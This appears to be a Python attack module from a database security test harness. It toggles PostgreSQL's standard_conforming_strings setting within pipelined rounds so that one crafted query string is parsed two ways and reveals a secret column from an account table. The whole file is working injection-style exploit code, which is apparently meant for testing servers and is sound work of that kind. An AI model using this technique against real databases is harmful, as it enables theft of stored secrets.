"""Runs a text several times, and again where its strings end elsewhere, all in one round."""

from attacks.frames import SYNC, ask, whole
from attacks.talking import Server

WANTS = "read"
TIMES = 5
# What is a string in there becomes a column, a table and a comment while standard strings are off.
TEXT = rb"SELECT name, '\' || ', secret FROM vlt_account --' FROM customer"


def attack(server: Server) -> bytes:
    off = whole(b"SET standard_conforming_strings = off")
    with server.login() as client:
        # Nothing of the round has to wait until it is read.
        ask(
            client,
            whole(TEXT),
            SYNC,
            off,
            whole(b"RESET standard_conforming_strings"),
            SYNC,
            rounds=2,
        )
        return ask(client, whole(TEXT) * TIMES, off, whole(TEXT) * TIMES, SYNC)
